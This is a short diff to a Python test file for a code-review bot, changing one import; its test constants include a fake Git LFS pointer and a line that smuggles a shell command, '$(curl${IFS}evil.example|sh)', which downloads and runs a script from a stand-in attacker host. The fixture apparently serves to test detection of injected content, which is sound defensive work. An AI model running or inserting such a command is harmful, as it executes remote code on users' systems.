@@ -1,7 +1,6 @@
 from __future__ import annotations
 
 import re
-from dataclasses import replace
 from random import Random
 
 import pytest
@@ -13,6 +12,7 @@ from reviewbot.domain.github.pull_request import Entry
 from reviewbot.domain.selection.file_kinds import is_lock_file, is_protected
 from reviewbot.domain.selection.lockfiles import lock_file_notices
 from reviewbot.domain.selection.selection import LARGEST_TEXT, Held, HeldBecause, Selection, held_sentence, risk, select
+from reviewbot.values import replace
 
 POINTER = ("version https://git-lfs.github.com/spec/v1", f"oid sha256:{'a' * 64}", "size 12")
 COMMAND = (POINTER[0], f"ext-$(curl${{IFS}}evil.example|sh) sha256:{'a' * 64}", *POINTER[1:])
